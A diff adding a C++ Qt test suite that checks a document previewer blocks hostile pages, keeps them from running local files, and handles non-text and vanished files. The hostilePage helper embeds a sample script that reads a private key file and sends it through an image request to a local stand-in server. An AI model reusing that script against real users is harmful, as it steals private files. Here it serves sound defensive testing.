@@ -1,0 +1,355 @@
+// Documents are untrusted: a hostile page must not read the user's files or
+// reach the network, with or without its scripts, while the converters' own
+// anchor links, images beside the document and https images keep working.
+// Local servers on 127.0.0.1 stand for the web.
+#include <QApplication>
+#include <QDesktopServices>
+#include <QPushButton>
+#include <QSignalSpy>
+#include <QTcpServer>
+#include <QTcpSocket>
+
+#include "DocumentTestSupport.h"
+#include "QtTestSupport.h"
+#include "app/AppDelegate.h"
+#include "document/Document.h"
+#include "document/PreviewRequestPolicy.h"
+#include "document/PreviewWebPage.h"
+#include "document/ScriptNoticeBar.h"
+#include "document/ScriptPermissions.h"
+#include "document/ViewSettings.h"
+#include "settings/SettingsRegistry.h"
+#include "settings/SettingsStore.h"
+#include "textbundle/Textbundle.h"
+
+using namespace documenttestsupport;
+using qttestsupport::writeFile;
+
+namespace {
+
+// Counts connections and keeps what they send. It never answers: a request
+// that should not be made is seen, and one that may be made fails at once
+// (the connection closes on its first bytes), so the page finishes loading.
+class RecordingServer : public QObject {
+public:
+    RecordingServer() {
+        server.listen(QHostAddress::LocalHost);
+        connect(&server, &QTcpServer::newConnection, this, [this] {
+            while (QTcpSocket* socket = server.nextPendingConnection()) {
+                ++connections;
+                connect(socket, &QTcpSocket::readyRead, this, [this, socket] {
+                    received += socket->readAll();
+                    socket->disconnectFromHost();
+                });
+            }
+        });
+    }
+    QString url(const QString& scheme, const QString& path) const {
+        return QString("%1://127.0.0.1:%2/%3").arg(scheme).arg(server.serverPort()).arg(path);
+    }
+
+    QTcpServer server;
+    int connections = 0;
+    QByteArray received;
+};
+
+// Stands for the browser and the file manager: records what would be opened.
+class OpenedUrls : public QObject {
+    Q_OBJECT
+public slots:
+    void open(const QUrl& url) { urls << url; }
+
+public:
+    QList<QUrl> urls;
+};
+
+struct FileState {
+    QByteArray bytes;
+    QDateTime modified;
+    bool operator==(const FileState&) const = default;
+};
+
+FileState stateOf(const QString& path) {
+    QFile file(path);
+    file.open(QIODevice::ReadOnly);
+    return {file.readAll(), QFileInfo(path).lastModified()};
+}
+
+}  // namespace
+
+class SafePreviewTest : public QObject {
+    Q_OBJECT
+
+    std::unique_ptr<AppDelegate> delegate;
+    QTemporaryDir home;      // the user's private files
+    QTemporaryDir folder;    // where the downloaded document lies
+    RecordingServer web;     // plain http
+    RecordingServer secure;  // stands for an https server (the handshake shows the request was let through)
+    OpenedUrls opened;
+
+    QString path(const QString& name) const { return folder.filePath(name); }
+    QString secretPath() const { return home.filePath(".ssh/id_secret"); }
+
+    Document* openAndWait(const QString& file) {
+        Document* document = delegate->openDocument(file);
+        if (!document || !waitForLoads(document, 1))
+            return nullptr;
+        return document;
+    }
+
+    // A page that tries everything a hostile document would: read a private
+    // file and send it away, load local files from outside its folder, reach
+    // plain http, leave the page.
+    QByteArray hostilePage() const {
+        const QString secret = QUrl::fromLocalFile(secretPath()).toString();
+        const QString secretImage = QUrl::fromLocalFile(home.filePath("private.png")).toString();
+        return QString(R"(<h1>Release notes</h1>
+<script>
+document.body.setAttribute('data-ran', 'yes');
+function read(url) {
+  try { var x = new XMLHttpRequest(); x.open('GET', url, false); x.send(); return x.responseText; }
+  catch (e) { return ''; }
+}
+new Image().src = '%1?outside=' + encodeURIComponent(read('%2')) + '&inside=' + encodeURIComponent(read('inside.txt'));
+</script>
+<img id="beside" src="beside.png">
+<img id="private" src="%3">
+<img id="srcset" srcset="%3 2x">
+<img id="plain" src="%4">
+<img id="badge" src="%5">
+<link rel="stylesheet" href="%6">
+<iframe src="%2"></iframe>
+<object data="%2"></object>
+<meta http-equiv="refresh" content="0; url=%7">
+<p>The end.</p>
+)")
+            .arg(web.url("http", "report"), secret, secretImage, web.url("http", "plain.png"),
+                 secure.url("https", "badge.png"), web.url("http", "style.css"), web.url("http", "refresh"))
+            .toUtf8();
+    }
+
+    void clickElement(Document* document, const QString& selector) {
+        const QVariantList centre = evaluate(document, QString("(function(){var e=document.querySelector('%1');"
+                                                               "var r=e.getBoundingClientRect();"
+                                                               "return [r.left+r.width/2, r.top+r.height/2];})()")
+                                                           .arg(selector))
+                                        .toList();
+        QCOMPARE(centre.size(), 2);
+        QWidget* surface = document->webView()->focusProxy();
+        QTest::mouseClick(surface, Qt::LeftButton, {}, QPoint(centre[0].toInt(), centre[1].toInt()));
+    }
+
+    double scrollY(Document* document) { return evaluate(document, "window.scrollY").toDouble(); }
+
+private slots:
+    void initTestCase() {
+        delegate = std::make_unique<AppDelegate>();
+        writeFile(secretPath(), "PRIVATE KEY");
+        writeFile(home.filePath("private.png"), png(30, 30));
+        writeFile(path("beside.png"), png(12, 12));
+        writeFile(path("inside.txt"), "NOTES");
+        for (const char* scheme : {"http", "https", "mailto", "file", "smb"})
+            QDesktopServices::setUrlHandler(scheme, &opened, "open");
+    }
+
+    void cleanup() {
+        QApplication::closeAllWindows();
+        QTest::qWait(50);
+        SettingsStore::shared().remove(settingskeys::kScriptsAllowedFolders);
+        SettingsStore::shared().remove("SelectedCSSStyle");
+        opened.urls.clear();
+    }
+
+    void aHostileDocumentReadsNothingAndSendsNothing() {
+        writeFile(path("hostile.html"), hostilePage());
+        Document* document = openAndWait(path("hostile.html"));
+        QVERIFY(document);
+        QSignalSpy refused(qobject_cast<PreviewWebPage*>(document->webView()->page())->requestPolicy(),
+                           &PreviewRequestPolicy::requestRefused);
+        // Loads the window made before the spy existed are made again.
+        document->reloadTxt();
+        QVERIFY(waitForLoads(document, 2));
+        QVERIFY(QTest::qWaitFor([&] { return secure.connections > 0; }, 5000));  // the https badge
+        QTest::qWait(1500);                                                     // room for the refresh
+
+        QCOMPARE(web.connections, 0);
+        QVERIFY(evaluate(document, "document.body.getAttribute('data-ran')").isNull());
+        QVERIFY(bodyText(document).contains("The end."));
+        QVERIFY(evaluate(document, "document.getElementById('beside').naturalWidth").toInt() == 12);
+        QCOMPARE(evaluate(document, "document.getElementById('private').naturalWidth").toInt(), 0);
+        QCOMPARE(evaluate(document, "document.getElementById('srcset').naturalWidth").toInt(), 0);
+        QStringList refusedUrls;
+        for (const QList<QVariant>& arguments : refused)
+            refusedUrls << arguments.first().toUrl().toString();
+        QVERIFY2(refusedUrls.contains(QUrl::fromLocalFile(secretPath()).toString()), qPrintable(refusedUrls.join(' ')));
+        QVERIFY(refusedUrls.contains(QUrl::fromLocalFile(home.filePath("private.png")).toString()));
+        QVERIFY(opened.urls.isEmpty());
+        QVERIFY(document->scriptNotice()->isVisible());
+    }
+
+    void allowedScriptsStillReadNothingOutsideTheirFolder() {
+        writeFile(path("hostile.html"), hostilePage());
+        Document* document = openAndWait(path("hostile.html"));
+        QVERIFY(document);
+        QVERIFY(QTest::qWaitFor([&] { return document->scriptNotice()->isVisible(); }, 5000));
+        const int loads = document->completedLoads();
+        QTest::mouseClick(document->scriptNotice()->allowButton(), Qt::LeftButton);
+        QVERIFY(waitForLoads(document, loads + 1));
+        QVERIFY(scriptpermissions::areScriptsAllowedInFolder(folder.path()));
+        QVERIFY(!scriptpermissions::areScriptsAllowedInFolder(home.path()));
+
+        QVERIFY(QTest::qWaitFor([&] { return web.received.contains("GET /report"); }, 10000));
+        QCOMPARE(evaluate(document, "document.body.getAttribute('data-ran')").toString(), QString("yes"));
+        QVERIFY(web.received.contains("GET /report?outside=&inside=NOTES "));
+        QVERIFY(!web.received.contains("PRIVATE"));
+        QVERIFY(!document->scriptNotice()->isVisible());
+        QVERIFY(bodyText(document).contains("The end."));  // the refresh did not leave the page
+        QVERIFY(opened.urls.isEmpty());
+    }
+
+    void anchorLinksScrollWithoutDocumentScripts_data() {
+        QTest::addColumn<QString>("file");
+        QTest::addColumn<QByteArray>("text");
+        QTest::addColumn<QString>("link");
+        QTest::addColumn<QString>("back");
+        QByteArray filler;
+        for (int i = 0; i < 150; ++i)
+            filler += "Paragraph " + QByteArray::number(i) + " of a long text.\n\n";
+        QTest::newRow("footnote") << "notes.md" << "Text with a note.[^1]\n\n" + filler + "[^1]: The note.\n"
+                                  << "a.footnote"
+                                  << "a.reversefootnote";
+        QTest::newRow("table of contents") << "contents.tsl" << "+tableofcontents+\n\n" + filler + "# Far heading\n\ntext\n"
+                                           << "a[onclick]"
+                                           << "";
+    }
+
+    void anchorLinksScrollWithoutDocumentScripts() {
+        QFETCH(QString, file);
+        QFETCH(QByteArray, text);
+        QFETCH(QString, link);
+        QFETCH(QString, back);
+        writeFile(path(file), text);
+        Document* document = openAndWait(path(file));
+        QVERIFY(document);
+        document->show();
+        QVERIFY(QTest::qWaitForWindowExposed(document));
+        QVERIFY(document->lastFragment().contains("onclick=\"document.location.hash="));
+        QCOMPARE(scrollY(document), 0.0);
+        clickElement(document, link);
+        QVERIFY(QTest::qWaitFor([&] { return scrollY(document) > 1000; }, 5000));
+        QVERIFY(!document->scriptNotice()->isVisible());
+        if (back.isEmpty())
+            return;
+        clickElement(document, back);
+        QVERIFY(QTest::qWaitFor([&] { return scrollY(document) < 200; }, 5000));
+    }
+
+    void linksToLocalFilesAreRevealedNeverRun() {
+        writeFile(path("tool.sh"), "#!/bin/sh\ntouch \"$(dirname \"$0\")/ran\"\n");
+        QFile::setPermissions(path("tool.sh"), QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
+        writeFile(path("launcher.desktop"), "[Desktop Entry]\nType=Application\nExec=touch ran\n");
+        writeFile(path("links.html"), "<a id=\"tool\" href=\"tool.sh\">tool</a> <a id=\"launcher\" href=\"launcher.desktop\">l</a>"
+                                      " <a id=\"web\" href=\"https://example.org/page\">web</a>"
+                                      " <a id=\"share\" href=\"smb://server/share\">share</a>");
+        Document* document = openAndWait(path("links.html"));
+        QVERIFY(document);
+        QSignalSpy windows(document, &Document::openFileRequested);
+        auto* page = qobject_cast<PreviewWebPage*>(document->webView()->page());
+        QSignalSpy revealed(page, &PreviewWebPage::revealFileRequested);
+
+        for (const char* id : {"tool", "launcher", "web", "share"})
+            evaluate(document, QString("document.getElementById('%1').click()").arg(id));
+        QVERIFY(QTest::qWaitFor([&] { return revealed.count() == 2; }, 5000));
+        QTest::qWait(300);
+        QCOMPARE(revealed.at(0).first().toString(), path("tool.sh"));
+        QCOMPARE(revealed.at(1).first().toString(), path("launcher.desktop"));
+        QCOMPARE(windows.count(), 0);
+        // Without a file manager on the bus the folder opens; the browser
+        // gets the web link; the share link starts nothing.
+        QVERIFY(opened.urls.contains(QUrl("https://example.org/page")));
+        QVERIFY(opened.urls.contains(QUrl::fromLocalFile(folder.path())));
+        QVERIFY(!opened.urls.contains(QUrl::fromLocalFile(path("tool.sh"))));
+        QVERIFY(!opened.urls.contains(QUrl("smb://server/share")));
+        QVERIFY(!QFile::exists(path("ran")));
+    }
+
+    void filesThatAreNoTextGiveANotice_data() {
+        QTest::addColumn<QString>("file");
+        QTest::addColumn<QString>("notice");
+        QTest::newRow("image renamed") << "picture.md" << "This is not a text file";
+        QTest::newRow("NUL bytes") << "zeros.md" << "This is not a text file";
+        QTest::newRow("100 MB") << "huge.md" << "The file is too large to preview";
+    }
+
+    void filesThatAreNoTextGiveANotice() {
+        QFETCH(QString, file);
+        QFETCH(QString, notice);
+        writeFile(path("picture.md"), png(64, 64));
+        writeFile(path("zeros.md"), QByteArray(4096, '\0'));
+        QFile huge(path("huge.md"));
+        QVERIFY(huge.open(QIODevice::WriteOnly) && huge.resize(100LL * 1024 * 1024));  // sparse: no disk used
+        huge.close();
+        Document* document = openAndWait(path(file));
+        QVERIFY(document);
+        QVERIFY(waitForBodyText(document, notice, 5000));
+        QVERIFY(document->lastFragment().isEmpty());
+    }
+
+    void eachTextPackWindowUnpacksIntoItsOwnFolderRemovedWithIt() {
+        writeFile(path("source/pic.png"), png(21, 7));
+        Textbundle writer;
+        QVERIFY(writer.writeTextpackForString("<p>first</p><img src=\"assets/pic.png\">", path("First.textpack"),
+                                              {path("source/pic.png")}, "html"));
+        QVERIFY(writer.writeTextpackForString("<p>second</p><img src=\"assets/pic.png\">", path("Second.textpack"),
+                                              {path("source/pic.png")}, "html"));
+        Document* first = openAndWait(path("First.textpack"));
+        Document* second = openAndWait(path("Second.textpack"));
+        QVERIFY(first && second);
+        const QString firstFolder = first->baseURL().toLocalFile();
+        const QString secondFolder = second->baseURL().toLocalFile();
+        QVERIFY(QFileInfo(firstFolder).isDir() && QFileInfo(secondFolder).isDir());
+        QVERIFY(firstFolder != secondFolder);
+        first->close();
+        QTRY_VERIFY(!QFileInfo::exists(firstFolder));
+        // The other window's images still load after the first one closed.
+        const int loads = second->completedLoads();
+        second->reloadTxt();
+        QVERIFY(waitForLoads(second, loads + 1));
+        QVERIFY(QTest::qWaitFor([&] { return evaluate(second, "document.images[0].naturalWidth").toInt() == 21; }, 5000));
+        QVERIFY(QFileInfo(secondFolder).isDir());
+    }
+
+    void aVanishedFileGivesANoticeAndTheFileIsNeverWritten() {
+        const QString file = path("kept.md");
+        writeFile(file, "# Kept\n\nSome *text*.\n");
+        const FileState before = stateOf(file);
+        Document* document = openAndWait(file);
+        QVERIFY(document);
+        int loads = document->completedLoads();
+        document->reloadTxt();
+        QVERIFY(waitForLoads(document, loads + 1));
+        document->HTML2Pasteboard();
+        document->showFileInFinder();
+        loads = document->completedLoads();
+        viewsettings::selectCSSStyle("Manuscript_Dark");
+        QVERIFY(waitForLoads(document, loads + 1));
+        QCOMPARE(stateOf(file), before);
+
+        const QString aside = path("kept.md.aside");
+        QVERIFY(QFile::rename(file, aside));
+        loads = document->completedLoads();
+        document->reloadTxt();
+        QVERIFY(waitForLoads(document, loads + 1));
+        QVERIFY(waitForBodyText(document, "The file is not there", 5000));
+        QVERIFY(QFile::rename(aside, file));
+        loads = document->completedLoads();
+        document->reloadTxt();
+        QVERIFY(waitForBodyText(document, "Kept", 5000));
+        document->close();
+        QTest::qWait(100);
+        QCOMPARE(stateOf(file), before);
+    }
+};
+
+QUILL_QTEST_MAIN(SafePreviewTest, QApplication)
+#include "SafePreviewTest.moc"
